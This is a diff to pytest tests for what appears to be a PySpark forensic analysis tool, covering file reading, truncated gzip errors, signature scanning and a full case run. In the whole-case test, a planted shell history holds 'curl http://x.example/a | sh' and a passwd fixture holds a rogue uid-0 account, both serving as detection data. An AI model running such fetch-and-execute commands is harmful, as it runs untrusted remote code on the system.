@@ -5,10 +5,11 @@ import pytest
 from pyspark.sql import functions as F
 
 from spoorline.operators import answers, context
+from spoorline.operators import signatures as sig
 from spoorline.operators.filters import EventFilter, timeline
 from spoorline.plans.case import analyze
 from spoorline.sinks import exports
-from spoorline.sources import bodyfile, config, history, lines, mongod, syslog, text, winevents
+from spoorline.sources import bodyfile, config, files, history, lines, mongod, syslog, text, winevents
 from spoorline.streaming.ingest import ingest, stream_texts
 
 
@@ -43,24 +44,74 @@ def test_login_after_failures(spark):
     assert split.filter("severity = 'high'").count() == 0
 
 
-def test_lines_are_numbered_across_blocks(spark, tmp_path):
+def test_lines_are_numbered_across_ranges(spark, tmp_path):
     content = [f"line {i} " + "x" * (i % 50) for i in range(5000)]
     (tmp_path / "a.log").write_text("\n".join(content) + "\n")
     with gzip.open(tmp_path / "b.log.gz", "wt") as out:
         out.write("\n".join(content[:100]))
     (tmp_path / ".hidden").write_text("secret\n")
-    old = spark.conf.get("spark.sql.files.maxPartitionBytes")
-    spark.conf.set("spark.sql.files.maxPartitionBytes", "20000")
-    try:
-        got = lines.read_lines(spark, str(tmp_path))
-        rows = {}
-        for r in got.collect():
-            rows.setdefault(r.path.rsplit("/", 1)[-1], {})[r.line_no] = r.value
-    finally:
-        spark.conf.set("spark.sql.files.maxPartitionBytes", old)
-    assert rows["a.log"] == {i + 1: v for i, v in enumerate(content)}
-    assert rows["b.log.gz"] == {i + 1: v for i, v in enumerate(content[:100])}
-    assert [r.path.rsplit("/", 1)[-1] for r in lines.hidden_files(spark, str(tmp_path)).collect()] == [".hidden"]
+    (tmp_path / "_deep" / "er").mkdir(parents=True)
+    (tmp_path / "_deep" / "er" / "c").write_bytes(b"one\r\ntwo\rthree\n\nb\xffd")
+    (tmp_path / "empty").write_bytes(b"")
+    rows = {}
+    for r in lines.read_lines(spark, str(tmp_path)).collect():
+        rows.setdefault(r.path.rsplit("/", 1)[-1], {})[r.line_no] = r.value
+    assert rows == {
+        "a.log": {i + 1: v for i, v in enumerate(content)},
+        "b.log.gz": {i + 1: v for i, v in enumerate(content[:100])},
+        ".hidden": {1: "secret"},
+        "c": {1: "one", 2: "two", 3: "three", 4: "", 5: "b\ufffdd"},
+    }
+    listed = files.list_files(spark, str(tmp_path)).drop("error")
+    for size in (1, 7, 20_000):
+        some = listed.where("path like '%/c'") if size < 20_000 else listed
+        small = files.numbered(files.read_table(files.ranges(some, size), size))
+        got = {}
+        for r in small.collect():
+            got.setdefault(r.path.rsplit("/", 1)[-1], {})[r.line_no] = r.value
+        assert got == {k: v for k, v in rows.items() if size == 20_000 or k == "c"}
+
+
+def test_a_file_that_breaks_off_keeps_its_lines(spark, tmp_path):
+    packed = gzip.compress("\n".join(f"line {i} {i * 7919}" for i in range(400_000)).encode())
+    (tmp_path / "cut.gz").write_bytes(packed[: len(packed) // 2])
+    (tmp_path / "not.gz").write_bytes(b"plain")
+    (tmp_path / "gone").symlink_to(tmp_path / "nowhere")
+    listed = files.list_files(spark, str(tmp_path))
+    assert {r.path.rsplit("/", 1)[-1]: r.error for r in listed.collect()}["gone"] == "not a readable file"
+    table = files.read_table(files.ranges(listed.where("error IS NULL").drop("error")))
+    errors = {r.path.rsplit("/", 1)[-1]: r.error.split(":")[0] for r in lines.unreadable(table).collect()}
+    assert errors == {"cut.gz": "EOFError", "not.gz": "BadGzipFile"}
+    assert files.numbered(table).where("value IS NOT NULL").agg(F.max("line_no")).first()[0] > 100_000
+
+
+def test_strings_over_chunk_edges(spark, tmp_path):
+    data = bytearray(b"." * 400)
+    data[95:105] = b"NEEDLEnine"
+    data[195:205] = b" wordwide "
+    data[298:303] = b"xword"
+    data[305:309] = b"word"
+    (tmp_path / "f.bin").write_bytes(bytes(data))
+    (tmp_path / "g.bin").write_bytes(b"word" + b"x" * 300)
+    signatures = [
+        {"name": "edge", "severity": "high", "strings": {"$a": "NEEDLEnine"}, "condition": "$a"},
+        {"name": "nocase", "severity": "low", "strings": {"$a": {"text": "needleNINE", "nocase": True}}, "condition": "$a"},
+        {"name": "word", "severity": "low", "strings": {"$a": {"text": "word", "fullword": True}}, "condition": "$a"},
+        {"name": "regex", "severity": "low", "strings": {"$a": {"regex": "N[A-Z]{5}n"}, "$b": {"regex": "^word"}}, "condition": "1 of them"},
+        {"name": "none", "severity": "low", "strings": {"$a": "absent"}, "condition": "$a"},
+        {"name": "missing", "severity": "low", "strings": {"$a": "absent"}, "condition": "not $a"},
+    ]
+    stored = files.list_files(spark, str(tmp_path)).select("path", "size")
+    wholes = spark.read.format("binaryFile").load(str(tmp_path)).select("path", F.decode("content", "ISO-8859-1").alias("t"))
+    name = F.regexp_extract("path", "[^/]*$", 0).alias("path")
+    want = {(r.path, r.rule, tuple(r.strings)) for r in sig.scan_texts(wholes.withColumn("path", name), "t", ["path"], signatures).collect()}
+    assert ("f.bin", "word", ("a",)) in want and ("g.bin", "regex", ("b",)) in want
+    for size in (16, 100, 1000):
+        got = sig.scan_files(stored, signatures, size).withColumn("path", name)
+        assert {(r.path, r.rule, tuple(r.strings)) for r in got.collect()} == want
+    spots = files.ranges(stored, 100)
+    plan = sig.scan_files(stored, signatures, 100)._jdf.queryExecution().executedPlan().toString()
+    assert "content" not in " ".join(line for line in plan.split("\n") if "Exchange" in line) and spots.count() == 8
 
 
 def test_inventory_and_routes(spark, tmp_path):
@@ -206,6 +257,9 @@ def test_a_whole_case(spark, tmp_path):
     (evidence / "auth.log").write_text("\n".join(AUTH) + "\n")
     (evidence / "app.log").write_text("2024-03-02 08:00:00 started\n")
     (evidence / "passwd").write_text("root:x:0:0::/root:/bin/bash\nevil:x:0:0::/:/bin/sh\n")
+    (evidence / "home" / "eve").mkdir(parents=True)
+    (evidence / "home" / "eve" / ".bash_history").write_text("#1709366400\ncurl http://x.example/a | sh\n")
+    (evidence / "home" / "eve" / ".notes.gz").write_bytes(b"plain")
     rule = {"title": "Cracked", "id": "c", "level": "high", "logsource": {"product": "linux"},
             "detection": {"s": {"message|contains": "Brute-force SUCCESS"}, "condition": "s"}}
     sign = {"name": "uid0", "severity": "high", "strings": {"$a": ":x:0:0:"}, "condition": "$a"}
@@ -214,7 +268,12 @@ def test_a_whole_case(spark, tmp_path):
     assert kinds["ssh_login_success"] == 2 and kinds["config_uid0_account"] == 1 and kinds["sigma_match"] == 1 and kinds["yara_match"] == 1
     assert case.context.first().year == 2024
     assert {r.rule for r in case.findings.collect()} == {"Cracked", "uid0"}
-    assert {r.status for r in case.status.collect()} == {"parsed"}
+    assert kinds["shell_command"] == 1
+    status = {r.path.rsplit("/", 1)[-1]: r.status for r in case.status.collect()}
+    assert status == {"auth.log": "parsed", "app.log": "parsed", "passwd": "parsed", ".bash_history": "parsed", ".notes.gz": "error"}
+    told = {r.cause for r in case.diagnostics.filter("path like '%.notes.gz'").collect()}
+    assert len(told) == 1 and told.pop().startswith("BadGzipFile")
+    assert case.skipped.count() == 0
     assert case.links.filter("value = '203.0.113.7'").select("event_id").distinct().count() >= 5
     for fmt in exports.EXPORTS:
         exports.export(case.events, str(out / fmt), fmt)
